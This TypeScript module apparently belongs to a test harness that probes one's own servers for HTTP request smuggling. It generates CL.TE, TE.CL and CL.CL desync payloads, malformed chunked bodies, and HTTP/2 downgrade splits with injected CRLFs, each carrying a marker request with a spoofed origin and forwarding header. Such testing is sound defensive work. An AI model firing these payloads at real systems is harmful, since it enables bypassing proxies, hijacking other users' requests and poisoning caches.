import { type Header, oneRequest } from "./h2-frames.ts";
import { ELSEWHERE } from "./lies.ts";

/** A method that no page of ours sends: a request that comes with it was read out of another one's body. */
export const SMUGGLED_METHOD = "MKACTIVITY";

/** Bytes that two readers may cut into requests at different places. */
export type Ambiguity = Readonly<{ what: string; bytes: Buffer }>;

const POST = "POST /api/sign-out HTTP/1.1";
const GET = "GET /api/health HTTP/1.1";

/** What makes a reader take a body for chunked, or not: by the letter none of them is quite right, but for the first two. */
const ENCODINGS = [
  ...["Transfer-Encoding: chunked", "tRANSFER-eNCODING: cHUNKED", "Transfer-Encoding : chunked"],
  ...["Transfer-Encoding:\tchunked", "Transfer-Encoding: chunked\t", "Transfer-Encoding: xchunked"],
  ...["Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked"],
  ...[
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: ,chunked",
  ],
  ...[
    'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: chunked;x=y",
    "Transfer-Encoding: chunked\x0b",
  ],
  ...[
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: chunked\x00",
    "Transfer-Encoding: chunk\x00ed",
  ],
  ...[
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
  ],
  ...[
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked",
  ],
  ...[
    "Transfer-Encoding:\n chunked",
    "X: y\r\n Transfer-Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
  ],
  ...[
    "X: y\rTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\nX: y",
    " Transfer-Encoding: chunked",
  ],
  ...[
    "\x0bTransfer-Encoding: chunked",
    "Transfer\x00-Encoding: chunked",
    "Transfer-Encoding\x00: chunked",
  ],
  ...[
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: \xffchunked",
  ],
];

/** Headers of which one reader takes the body to be empty, and another takes it for what is smuggled. */
const lengths = (bytes: number) => [
  ...[
    `Content-Length: 0\r\nContent-Length: ${bytes}`,
    `Content-Length: ${bytes}\r\nContent-Length: 0`,
  ],
  ...[`Content-Length: 0, ${bytes}`, `Content-Length: ${bytes}, 0`, `Content-Length: +${bytes}`],
  ...[
    `Content-Length: ${bytes} 0`,
    `Content-Length: 0x${bytes.toString(16)}`,
    `Content-Length: ${bytes}.0`,
  ],
  ...[`Content-Length : ${bytes}`, `Content-Length:\r\n ${bytes}`, `Content-Length: \x0b${bytes}`],
  ...[`Content-Length: -${bytes}`, `Content-Length: ${bytes}\x00`, `Content-Length\x00: ${bytes}`],
  ...[`X: y\r\n Content-Length: ${bytes}`, `X: y\rContent-Length: ${bytes}`],
  ...[
    `Connection: Content-Length\r\nContent-Length: ${bytes}`,
    `Content-Length: 184467440737095516${bytes}`,
  ],
];

/** Bodies in chunks that readers end at different places: by extensions, by line ends, by sizes. */
const chunks = (smuggled: string) => [
  ...[`1;x\nA\r\n0\r\n\r\n${smuggled}`, `1;${"x".repeat(9)}\n0\r\n\r\n${smuggled}`],
  ...[
    `2;\nxx\r\n${hex(smuggled)}\r\n0\r\n\r\n${smuggled}`,
    `0;\n${smuggled}`,
    `0;x="\r\n\r\n${smuggled}"\r\n\r\n`,
  ],
  ...[`1\nA\n0\n\n${smuggled}`, `1\r\nA\n0\r\n\r\n${smuggled}`, `1\rA\r0\r\r${smuggled}`],
  ...[
    `0x1\r\nA\r\n0\r\n\r\n${smuggled}`,
    `-1\r\n\r\n${smuggled}`,
    `+1\r\nA\r\n0\r\n\r\n${smuggled}`,
  ],
  ...[
    `1 \r\nA\r\n0\r\n\r\n${smuggled}`,
    ` 1\r\nA\r\n0\r\n\r\n${smuggled}`,
    `1\x00\r\nA\r\n0\r\n\r\n${smuggled}`,
  ],
  ...[`10000000000000001\r\nA\r\n0\r\n\r\n${smuggled}`, `1\r\nAB\r\n0\r\n\r\n${smuggled}`],
  ...[
    `0\r\nContent-Length: 0\r\n ${smuggled}`,
    `0\nX: y\n\n${smuggled}`,
    `\r\n0\r\n\r\n${smuggled}`,
  ],
];

/** Whole requests whose end readers see at different places. */
const requests = (host: string, smuggled: string) => [
  `${GET}\nHost: ${host}\n\n${smuggled}`,
  `${GET}\r\nHost: ${host}\r\nX: y\n\n${smuggled}`,
  `${GET}\r\nHost: ${host}\r\nX: y\r\r${smuggled}`,
  `${GET}\r\nHost: ${host}\r\nX: y\r\n\n${smuggled}`,
  `GET /api/health\r\n\r\n${smuggled}`,
  `GET /api/health HTTP/1.1 HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 0 \r\n \r\n${smuggled}`,
  `GET /api/health\tHTTP/1.1\r\nHost: ${host}\r\nX:\x00\r\n\r\n${smuggled}`,
  `GET /api/health HTTP/0.9\r\nHost: ${host}\r\n\r\n${smuggled}`,
  `GET http://evil.example/api/health HTTP/1.1\r\n X: y\r\nHost: ${host}\r\n\r\n${smuggled}`,
  `POST /api/sign-out HTTP/1.0\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
];

const hex = (text: string) => Buffer.byteLength(text, "latin1").toString(16);

/** Returns every pair of readings that smuggles a request past a reader: for a host, and with the origin of its own pages. */
export function ambiguities({
  host,
  origin,
}: Readonly<{ host: string; origin: string }>): readonly Ambiguity[] {
  const smuggled = smuggledRequest(host);
  const length = Buffer.byteLength(smuggled, "latin1");
  const own = `Host: ${host}\r\nOrigin: ${origin}\r\nContent-Type: application/x-www-form-urlencoded`;
  const post = (headers: string, body: string) => `${POST}\r\n${own}\r\n${headers}\r\n\r\n${body}`;
  const ended = `0\r\n\r\n${smuggled}`;
  const wrapped = `${hex(smuggled)}\r\n${smuggled}\r\n0\r\n\r\n`;
  const first = `Content-Length: ${hex(smuggled).length + 2}`;
  const all = [
    ...ENCODINGS.flatMap((encoding) => [
      {
        what: `CL.TE ${encoding}`,
        text: post(`Content-Length: ${ended.length}\r\n${encoding}`, ended),
      },
      { what: `TE.CL ${encoding}`, text: post(`${encoding}\r\n${first}`, wrapped) },
    ]),
    ...lengths(length).map((header) => ({ what: `CL.CL ${header}`, text: post(header, smuggled) })),
    ...chunks(smuggled).map((body) => ({
      what: `chunks ${body.slice(0, 20)}`,
      text: post("Transfer-Encoding: chunked", body),
    })),
    ...requests(host, smuggled).map((text) => ({ what: `request ${text.slice(0, 60)}`, text })),
  ];
  return all.map(({ what, text }) => ({
    what: JSON.stringify(what),
    bytes: Buffer.from(text, "latin1"),
  }));
}

/** Returns requests of HTTP/2 that become two where somebody writes them down as HTTP/1.1 without a look. */
export function downgrades({
  host,
  origin,
}: Readonly<{ host: string; origin: string }>): readonly Ambiguity[] {
  const smuggled = smuggledRequest(host);
  const before: readonly Header[] = [
    [":method", "POST"],
    [":scheme", "https"],
    [":authority", host],
    [":path", "/api/sign-out"],
    ["origin", origin],
  ];
  const instead = (name: string, value: string) =>
    before.map((header): Header => (header[0] === name ? [name, value] : header));
  const line = `/api/health HTTP/1.1\r\nHost: ${host}\r\n\r\n${smuggled}`;
  const all: readonly (readonly [headers: readonly Header[], body: string])[] = [
    [[...before, ["content-length", "0"]], smuggled],
    [[...before, ["content-length", "5"]], `hello${smuggled}`],
    [[...before, ["content-length", "0"], ["content-length", `${smuggled.length}`]], smuggled],
    [[...before, ["transfer-encoding", "chunked"]], `0\r\n\r\n${smuggled}`],
    [[...before, ["connection", "content-length"]], smuggled],
    [[...before, ["x", "y\r\nTransfer-Encoding: chunked"]], `0\r\n\r\n${smuggled}`],
    [[...before, ["x", "y\nTransfer-Encoding: chunked"]], `0\r\n\r\n${smuggled}`],
    [[...before, ["x: y\r\nTransfer-Encoding", "chunked"]], `0\r\n\r\n${smuggled}`],
    [[...before, ["x", `y\r\n\r\n${smuggled}`]], ""],
    [instead(":path", line), ""],
    [instead(":path", line.replaceAll("\r", "")), ""],
    [instead(":method", `GET ${line}POST`), ""],
    [instead(":authority", `${host}\r\n\r\n${smuggled}`), ""],
    [instead(":scheme", `https://${host}${line}`), ""],
  ];
  return all.map(([headers, body]) => ({
    what: JSON.stringify(headers.filter((header) => !before.includes(header))).slice(0, 80),
    bytes: oneRequest({ headers, body }),
  }));
}

/** Returns a request that stands in the log wherever it is read as one: by its own lie where no proxy knew of it. */
export function smuggledRequest(host: string): string {
  return `${SMUGGLED_METHOD} /smuggled HTTP/1.1\r\nHost: ${host}\r\nOrigin: https://evil.example\r\nX-Forwarded-For: ${ELSEWHERE}\r\nContent-Length: 0\r\n\r\n`;
}
